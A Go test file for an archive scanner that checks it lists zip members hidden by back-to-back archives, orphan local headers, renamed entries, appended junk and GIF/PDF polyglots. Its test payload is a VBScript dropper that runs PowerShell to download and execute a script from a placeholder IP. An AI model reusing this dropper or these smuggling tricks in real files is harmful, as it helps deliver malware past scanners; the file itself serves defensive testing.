package extract

import (
	"archive/zip"
	"bytes"
	"context"
	"strings"
	"testing"
)

const dropper = `CreateObject("WScript.Shell").Run "powershell -c iwr http://198.51.100.7/p.ps1|iex"`

func walkFile(t testing.TB, name string, data []byte) *Result {
	t.Helper()
	r, err := WalkFile(context.Background(), name, data, Options{})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// names lists the declared names of every file walked.
func names(r *Result) string {
	var out []string
	for _, f := range r.Files {
		out = append(out, f.Name)
	}
	return strings.Join(out, ",")
}

func hasName(r *Result, name string) *File {
	for i := range r.Files {
		if r.Files[i].Name == name {
			return &r.Files[i]
		}
	}
	return nil
}

// Each way of hiding a member from one kind of zip reader: the walker
// lists it whichever tool the victim uses.
func TestZipReadEveryWay(t *testing.T) {
	clean := zipOf(t, zipEntry{"readme.txt", []byte("hello, nothing to see")})
	evil := zipOf(t, zipEntry{"invoice.vbs", []byte(dropper)})
	// local header of the evil member alone, without its directory
	evilLocal := evil[:bytes.Index(evil, []byte("PK\x01\x02"))]
	junk := bytes.Repeat([]byte("filler that pushes the end record far away\n"), 3000) // > 64 KiB

	renamed := zipOf(t, zipEntry{"readme.txt", []byte(dropper)})
	// the local header says .vbs, the central directory .txt (same length)
	renamed = bytes.Replace(renamed, []byte("readme.txt"), []byte("readme.vbs"), 1)

	cases := []struct {
		name, file string
		data       []byte
		want       string // a member that must be listed
	}{
		// Explorer reads the last directory, 7-Zip the first.
		{"two zips back to back, evil first", "a.zip", append(append([]byte{}, evil...), clean...), "invoice.vbs"},
		{"two zips back to back, evil last", "a.zip", append(append([]byte{}, clean...), evil...), "invoice.vbs"},
		// A member whose local header no directory lists.
		{"local header before the archive", "a.zip", append(append([]byte{}, evilLocal...), clean...), "invoice.vbs"},
		{"local header name differs from the directory", "a.zip", renamed, "readme.vbs"},
		// Junk after the archive, beyond where readers look for the end.
		{"64 KiB appended after the end record", "a.zip", append(append([]byte{}, evil...), junk...), "invoice.vbs"},
		// A polyglot: a picture with a zip inside, not at its end.
		{"zip inside a GIF, junk after it", "photo.gif", append(append([]byte("GIF89a\x01\x00\x01\x00"), evil...), junk...), "invoice.vbs"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := walkFile(t, c.file, c.data)
			f := hasName(r, c.want)
			if f == nil {
				t.Fatalf("%s not listed; have %s (problems %q)", c.want, names(r), r.Problems)
			}
			if f.SHA256 == "" || f.Flags.Any() {
				t.Errorf("%s listed but not read: %+v", c.want, f)
			}
		})
	}
}

// The benign twins: ordinary archives are listed once, with no note and no
// flag, however their members are stored.
func TestZipReadEveryWayBenignTwins(t *testing.T) {
	inner := zipOf(t, zipEntry{"a.txt", []byte("inner text")})
	stored := storedZipOf(t, zipEntry{"inner.zip", inner}, zipEntry{"b.txt", []byte("more")})
	cases := []struct {
		name  string
		data  []byte
		files int
	}{
		{"plain zip", zipOf(t, zipEntry{"a.txt", []byte("x")}, zipEntry{"b.txt", []byte("y")}), 3},
		{"stored zip inside a stored zip", stored, 4},
		{"random bytes spelling the signatures", append(append([]byte("data PK\x05\x06 and 7z\xbc\xaf\x27\x1c and Rar!\x1a\x07\x01\x00"), make([]byte, 64)...), []byte("PK\x03\x04xx")...), 1},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := walkFile(t, "f.bin", c.data)
			if len(r.Files) != c.files {
				t.Errorf("%d files (%s), want %d", len(r.Files), names(r), c.files)
			}
			for _, f := range r.Files {
				if f.Flags.Any() || strings.Contains(f.Problem, "local header") || strings.Contains(f.Problem, "back to back") {
					t.Errorf("%s: flags %v problem %q", f.Path, f.Flags, f.Problem)
				}
			}
		})
	}
}

// 7-Zip and WinRAR find their archives after a prefix (self-extractors,
// polyglots): the walker does too, wherever the stream starts.
func TestEmbeddedSevenZipAndRar(t *testing.T) {
	for _, c := range []struct{ name, sample, member string }{
		{"7z after a PDF header", "archives/unarr/test.7z", "test.txt"},
		{"rar after a PDF header", "archives/unarr/test.rar", "test.txt"},
	} {
		t.Run(c.name, func(t *testing.T) {
			archive := corpusFile(t, c.sample)
			whole := walkFile(t, "x", archive)
			if len(whole.Files) < 2 {
				t.Fatalf("sample %s lists %s", c.sample, names(whole))
			}
			want := whole.Files[1].Name
			poly := append([]byte("%PDF-1.4\n% not really a pdf\n"), archive...)
			r := walkFile(t, "report.pdf", poly)
			f := hasName(r, want)
			if f == nil {
				t.Fatalf("%s not listed from the embedded archive; have %s", want, names(r))
			}
			if !strings.Contains(r.Files[0].Problem, "starts at offset") {
				t.Errorf("container problem %q does not say where the archive starts", r.Files[0].Problem)
			}
		})
	}
}

// A 7z stream whose header checks out but cannot be read makes a
// document unscannable (7-Zip might read it), while an executable's
// broken payload stays quiet: the stub itself is judged.
func TestEmbeddedStreamUnreadable(t *testing.T) {
	archive := corpusFile(t, "archives/unarr/test.7z")
	broken := append([]byte{}, archive[:32]...) // valid start header, nothing after it
	broken = append(broken, bytes.Repeat([]byte{0x42}, 200)...)
	doc := walkFile(t, "report.pdf", append([]byte("%PDF-1.4\n"), broken...))
	if !doc.Files[0].Flags.Any() {
		t.Errorf("pdf with an unreadable 7z stream: flags %v problem %q", doc.Files[0].Flags, doc.Files[0].Problem)
	}
	exe := walkFile(t, "setup.exe", append(minimalPE(), broken...))
	if exe.Files[0].Flags.Any() {
		t.Errorf("exe with an unreadable 7z stream flagged: %v %q", exe.Files[0].Flags, exe.Files[0].Problem)
	}
}

// storedZipOf is zipOf without compression: members' bytes lie in the
// archive as they are, signatures and all.
func storedZipOf(t testing.TB, entries ...zipEntry) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, e := range entries {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		w.Write(e.data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
